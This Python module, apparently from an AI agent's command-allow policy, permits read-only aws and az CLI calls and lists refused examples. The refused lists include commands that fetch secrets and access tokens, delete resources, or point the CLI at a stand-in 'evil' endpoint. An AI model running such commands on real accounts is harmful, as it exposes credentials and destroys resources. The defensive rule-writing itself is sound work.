"""Read-only aws and az: lists and descriptions in the owner's own accounts, without what hands out a secret.

Their command sets are too large to spell out, so the grammar is by shape: a known service, a verb that only looks,
and options that only select. A call that returns credentials, environment variables or start-up scripts is left out
by name, and no value may be read from a file, go to another address, or begin with `@`.
"""

import re

from mtbot.policy.allow_rule import AllowRule, Argv, Match, Needs
from mtbot.policy.words import words

_NETWORK = Needs(network=True)

VALUE = re.compile(r"(?![-@])(?!.*://)[A-Za-z0-9_.:/@+=,*#()|<>!&'\"\[\]{} \\`?~^;%$-]*")

_SELECTS = re.compile(
    r"--(?:[a-z0-9]+-)*(?:ids?|names?|arns?|identifiers?|types?|prefix|filters?|time|status|states?|pattern|scope|groups?|version|bucket|key|path"
    r"|owners?|order-by|descending|results|limit|iterator|namespace|username|target|resource|resources|number|location|region|regions|zone|zones|project|team"
    r"|server|cluster|service|instance|vault|account|workspace|registry|repository|publisher|offer|sku|urn|secret|configuration|offer|auth-mode|wiql|image|subscription|tags?|top|offset|sort-by|keyring"
    r"|days|metric|metrics|interval|aggregation|start|end|level|severity|database|table|max-items|page-size|orderby|expand|include|fields|wiki|depth|all|member)"
)

_NEVER_SELECTS = words(
    "--impersonate-service-account --endpoint --endpoint-url --cli-input-json --cli-input-yaml --ca-bundle"
)

SWITCHES = words(
    "--all --descending --no-paginate --no-cli-pager --no-cli-auto-prompt --include-deleted --only-show-errors --verbose --quiet -q --no-user-output-enabled --uri"
)

_OUTPUTS = {
    "--output": "json text table yaml yaml-stream jsonc tsv yamlc none",
    "-o": "json table tsv jsonc yaml yamlc none",
    "--color": "on off auto",
}


def options_only_select(rest: list[str], letters: str) -> bool:
    """Whether a list of words is nothing but known options with harmless values."""
    while rest:
        word = rest.pop(0)
        name, joined, value = word.partition("=")
        if word in SWITCHES:
            continue
        taken = [value] if joined else []
        while not joined and rest and not rest[0].startswith("-"):
            taken.append(rest.pop(0))
        if name in _OUTPUTS:
            if len(taken) != 1 or taken[0] not in _OUTPUTS[name].split():
                return False
        elif name in _NEVER_SELECTS or (
            name != "--query" and _SELECTS.fullmatch(name) is None and not (len(name) == 2 and name[1] in letters)
        ):
            return False
        if not all(VALUE.fullmatch(one) for one in taken):
            return False
    return True


_AWS_SERVICES = words(
    """acm apigatewayv2 application-autoscaling athena autoscaling backup batch budgets ce cloudformation cloudfront cloudtrail cloudwatch
    cognito-idp config cur dax dms docdb ds dynamodb ec2 ecr ecs efs eks elasticache elb elbv2 events firehose fsx glacier glue
    guardduty health iam inspector2 kafka kinesis kms lambda logs mq neptune networkmanager opensearch organizations pricing rds redshift resource-groups
    resourcegroupstaggingapi route53 route53domains s3api secretsmanager securityhub servicediscovery service-quotas ses sesv2 shield sns sqs
    ssm states stepfunctions sts support transfer waf wafv2 workspaces xray"""
)

_AWS_GETS = {
    "athena": "get-.* batch-get-.*",
    "cloudformation": "get-(template|template-summary|stack-policy)",
    "cloudwatch": "get-(metric-statistics|metric-data|dashboard|insight-rule-report)",
    "cognito-idp": "get-(group|csv-header|ui-customization) admin-(get-user|list-devices|list-groups-for-user)",
    "dynamodb": "get-item query scan batch-get-item transact-get-items",
    "ce": "get-cost-and-usage get-cost-forecast get-dimension-values",
    "ecr": "get-(lifecycle-policy|lifecycle-policy-preview|repository-policy)",
    "iam": "get-(account-summary|account-password-policy|account-authorization-details|group|policy|policy-version|role|role-policy|user|user-policy|login-profile|instance-profile|credential-report|group-policy) simulate-.*",
    "kinesis": "get-(records|shard-iterator)",
    "lambda": "get-(account-settings|alias|policy|event-source-mapping|function-concurrency)",
    "logs": "get-(log-events|log-record|log-group-fields|query-results) filter-log-events",
    "rds": "download-db-log-file-portion",
    "route53": "get-.* test-dns-answer",
    "s3api": "get-bucket-.* get-object-(acl|tagging|attributes|retention|legal-hold) head-(bucket|object)",
    "secretsmanager": "get-resource-policy",
    "sns": "get-.* check-if-phone-number-is-opted-out",
    "sqs": "get-queue-(attributes|url)",
    "ssm": "get-(automation-execution|command-invocation|connection-status|document|inventory|maintenance-window.*|ops-item|ops-summary|patch-baseline|parameter|parameters|parameters-by-path|parameter-history|deployable-patch-.*)",
    "sts": "get-caller-identity",
}

_AWS_LEFT_OUT = words(
    """lambda:list-functions lambda:list-versions-by-function ecs:describe-task-definition ecs:describe-tasks ec2:describe-instance-attribute
    ec2:describe-launch-template-versions ec2:describe-spot-fleet-requests cognito-idp:describe-user-pool-client cognito-idp:describe-identity-provider
    batch:describe-job-definitions batch:describe-jobs autoscaling:describe-launch-configurations mq:describe-user
    ec2:describe-vpn-connections dms:describe-endpoints transfer:describe-user"""
)

_AWS_LOOKS = re.compile(r"(?:describe|list|search)-[a-z0-9-]+")

_AWS_GLOBALS = words("--no-cli-pager --no-paginate --output --region --profile --query --color --no-cli-auto-prompt")


def _match_aws(argv: Argv) -> Match | None:
    rest = list(argv[1:])
    leading: list[str] = []
    while rest and rest[0].startswith("--"):
        option = rest.pop(0)
        name, joined, _ = option.partition("=")
        if name not in _AWS_GLOBALS:
            return None
        leading.append(option)
        if not joined and name not in ("--no-cli-pager", "--no-paginate", "--no-cli-auto-prompt"):
            leading.extend(rest[:1])
            rest = rest[1:]
    if not options_only_select([*leading], ""):
        return None
    if rest in (["help"], ["--version"]) or argv[1:] == ("--version",):
        return Match()
    if len(rest) < 2:
        return None
    service, operation, options = rest[0], rest[1], rest[2:]
    if (service, operation) in (("configure", "list"), ("configure", "list-profiles")):
        return Match() if not options else None
    if (service, operation) == ("configure", "get"):
        return Match() if options in (["region"], ["output"]) else None
    if service == "s3" and operation == "ls":
        target = options[:1] if options and options[0].startswith("s3://") else []
        flags = options[len(target) :]
        plain = all(flag in ("--recursive", "--human-readable", "--summarize") for flag in flags)
        return Match() if plain and all(re.fullmatch(r"s3://[A-Za-z0-9._/-]*", one) for one in target) else None
    if rest in ([service, "help"],) and service in _AWS_SERVICES | {"s3"}:
        return Match()
    if service not in _AWS_SERVICES or f"{service}:{operation}" in _AWS_LEFT_OUT:
        return None
    if options == ["help"]:
        return Match()
    gets = _AWS_GETS.get(service, "").split()
    looks = _AWS_LOOKS.fullmatch(operation) or any(re.fullmatch(shape, operation) for shape in gets)
    return Match() if looks and options_only_select(options, "") else None


_AZ_GROUPS = words(
    """account acr ad advisor aks apim appconfig appservice batch billing boards bicep cdn cloud cognitiveservices consumption container containerapp
    cosmosdb deployment devops disk disk-encryption-set dns eventgrid eventhubs extension feature functionapp group identity image iot keyvault
    lock logicapp managedapp maps ml monitor mysql netappfiles network pipelines policy postgres ppg provider quantum redis repos resource role search
    security servicebus sig snapshot sql sshkey staticwebapp storage synapse tag ts version vm vmss webapp"""
)

_AZ_VERBS = re.compile(
    r"list|show|exists|list-(?:locations|skus|sizes|usages?|offers|publishers|editions|versions|definitions|namespaces|ip-addresses)|show-(?:usage|tags|manifests|statistics)|get-(?:versions|upgrades|instance-view)|signed-in-user"
)

_AZ_NOUNS = words(
    """account acr ad aks app-insights agent application-gateway certificate certificates cluster consumer-group container database db deployment
    diagnostic-settings directory dns elastic-pool endpoint event-hub eventhub firewall-rule function group image ip-config iteration job key lb load-balancer
    local-context lock log-analytics log-profiles member metrics model namespace namespaces nic nodepool nsg offer option operation order plan policy pool
    pr private-dns private-endpoint private-link project public-ip queue recommendation record-set ref region repo repository resource role route route-table
    rule runs secret server service-endpoint set show sku slot snapshot source sp state sql storage subnet subscription table task team topic traffic-manager
    usage user variable-group virtual-network vm vmss vnet vnet-peering volume wiki page workspace workspaces zone work-item activity-log alert action-group
    authorization-rule definition assignment event configuration appservice blob file share cors metadata network-rule management-policy a aaaa cname mx
    txt ns ptr srv soa caa signed-in-user app extension feature location locations log replica replicas build"""
)
"""Words that may stand between a group and its verb; none of them acts."""

_AZ_LEFT_OUT = words(
    "keys credential credentials appsettings connection-string kv get-access-token access-token sas password publishing token entity invoke settings"
)

_AZ_OMITTED = (
    ("container", "show"),
    ("containerapp", "show"),
    ("containerapp", "revision"),
    ("keyvault", "secret", "show"),
    ("appservice", "ase"),
    ("webapp", "config"),
    ("functionapp", "config"),
    ("staticwebapp", "environment"),
    ("vm", "extension"),
)


_AZ_ALSO = {
    ("container", "logs"): ("--follow",),
    ("containerapp", "logs", "show"): ("--follow", "--tail"),
    ("webapp", "log", "tail"): (),
    ("storage", "blob", "url"): (),
    ("sql", "db", "show-connection-string"): ("--client", "-c"),
    ("devops", "configure"): ("--list", "-l"),
    ("vm", "image", "list-skus"): ("-p", "-f"),
    ("vm", "image", "list-offers"): ("-p",),
    ("vm", "image", "list"): ("-p", "-f", "-s"),
}
"""Subcommands whose own options are known one by one. A connection string here is a pattern without a password."""


def _matches_az_also(path: list[str], rest: list[str]) -> bool:
    own = _AZ_ALSO.get(tuple(path))
    if own is None or (path == ["devops", "configure"] and rest not in (["--list"], ["-l"])):
        return False
    return options_only_select([word for word in rest if word not in own], "gnlsco")


def _match_az(argv: Argv) -> Match | None:
    rest = list(argv[1:])
    path: list[str] = []
    while rest and re.fullmatch(r"[a-z][a-z0-9-]*", rest[0]):
        path.append(rest.pop(0))
    if not path and rest in (["--version"], ["--help"], ["-h"]):
        return Match()
    if path == ["version"] and not rest:
        return Match()
    if path in (["boards", "query"], ["monitor", "log-analytics", "query"]):
        return (
            Match()
            if options_only_select([word for word in rest if word not in ("--wiql", "--analytics-query")], "")
            else None
        )
    if _matches_az_also(path, rest):
        return Match()
    if len(path) < 2 or path[0] not in _AZ_GROUPS or _AZ_VERBS.fullmatch(path[-1]) is None:
        return None
    if (
        not _AZ_NOUNS.issuperset(path[1:-1])
        or not _AZ_LEFT_OUT.isdisjoint(path)
        or any(tuple(path[: len(left)]) == left for left in _AZ_OMITTED)
    ):
        return None
    plain = [word for word in rest if not _is_own_organization(word)]
    if len(plain) != len(rest) and "--organization" not in rest and "--org" not in rest:
        return None
    return (
        Match()
        if options_only_select([word for word in plain if word not in ("--organization", "--org")], "gnlpcrtws")
        else None
    )


def _is_own_organization(word: str) -> bool:
    return re.fullmatch(r"https://dev\.azure\.com/[A-Za-z0-9_-]+/?", word) is not None


CLOUD: tuple[AllowRule, ...] = (
    AllowRule(
        id="readonly:aws",
        match=_match_aws,
        program="aws",
        needs=_NETWORK,
        environment=(("AWS_PAGER", "cat"), ("AWS_CLI_AUTO_PROMPT", "off"), ("PAGER", "cat"), ("MANPAGER", "cat")),
        why="lists and describes in the owner's account",
        permits=(
            "aws s3 ls",
            "aws ec2 describe-instances --filters Name=tag:Name,Values=web --query 'Reservations[].Instances[].State.Name' --output text",
            "aws --region us-east-1 ec2 describe-vpcs",
            "aws sts get-caller-identity",
            "aws logs filter-log-events --log-group-name g --filter-pattern ERROR",
            "aws iam list-users",
            "aws s3api get-bucket-policy --bucket b",
            "aws configure get region",
            "aws rds download-db-log-file-portion --db-instance-identifier d --log-file-name error/x.log",
        ),
        refuses=(
            "aws secretsmanager get-secret-value --secret-id x",
            "aws sts get-session-token",
            "aws ecr get-login-password",
            "aws ssm get-parameter --name x --with-decryption",
            "aws lambda list-functions",
            "aws lambda get-function --function-name f",
            "aws s3api get-object --bucket b --key k out",
            "aws ec2 describe-instances --cli-input-json file://x",
            "aws dynamodb get-item --table-name t --key file://key.json",
            "aws --endpoint-url http://evil ec2 describe-vpcs",
            "aws ec2 describe-vpcs --endpoint-url http://evil",
            "aws ec2 terminate-instances --instance-ids i-1",
            "aws s3 rm s3://b/k",
            "aws configure get aws_secret_access_key",
            "aws eks get-token --cluster-name c",
            "aws ec2 get-password-data --instance-id i",
            "aws ec2 describe-vpcs --debug",
            "aws autoscaling describe-launch-configurations",
            "aws mq describe-user --broker-id b --username u",
            "aws s3 ls --endpoint-url=x",
            "aws --output json",
        ),
    ),
    AllowRule(
        id="readonly:az",
        match=_match_az,
        program="az",
        needs=_NETWORK,
        environment=(("AZURE_EXTENSION_USE_DYNAMIC_INSTALL", "no"), ("AZURE_CORE_COLLECT_TELEMETRY", "no")),
        why="lists and shows in the owner's account",
        permits=(
            "az vm list -o table",
            "az group show -n g",
            "az network nsg rule list --nsg-name n -g g",
            "az account show",
            "az version",
            "az vm list-skus -l eastus",
            "az vm image list-skus -l eastus -p Canonical -f UbuntuServer",
            "az container logs --name c -g g --follow",
            "az devops configure --list",
            "az sql db show-connection-string --name d --server s --client sqlcmd",
        ),
        refuses=(
            "az account get-access-token",
            "az keyvault secret show --name x --vault-name v",
            "az cosmosdb keys list --name a -g g",
            "az acr credential show --name r",
            "az storage account show-connection-string -n x",
            "az vm delete -n x",
            "az webapp config appsettings list -n x",
            "az container show -n x -g g",
            "az vm list --query @file",
            "az rest --method get --url x",
            "az storage blob download -f out",
            "az devops project list --organization https://evil.example/x",
            "az webapp deployment list-publishing-profiles -n x",
            "az vm list --debug",
            "az vm list -f x",
            "az devops configure --defaults organization=https://evil.example/x",
            "az devops configure --list --defaults project=x",
            "az container logs -n c --follow @f",
            "az webapp log download -n x",
            "az webapp log config -n x --level verbose",
            "az storage account show-connection-string -n x",
        ),
    ),
)
